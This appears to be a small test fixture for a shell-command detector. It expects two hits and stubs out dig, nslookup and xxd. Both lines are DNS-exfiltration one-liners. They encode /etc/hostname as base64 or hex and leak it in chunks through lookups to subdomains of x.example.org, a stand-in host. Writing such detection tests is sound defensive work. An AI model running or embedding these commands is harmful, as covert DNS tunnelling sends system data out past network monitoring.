# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/bin/dig /usr/bin/nslookup /usr/bin/xxd
bash -c 'for part in $(base64 -w 40 /etc/hostname | tr -d =); do dig +short $part.x.example.org; done'
sh -c 'xxd -p -c 24 /etc/hostname | while read p; do nslookup $p.x.example.org > /dev/null; done'
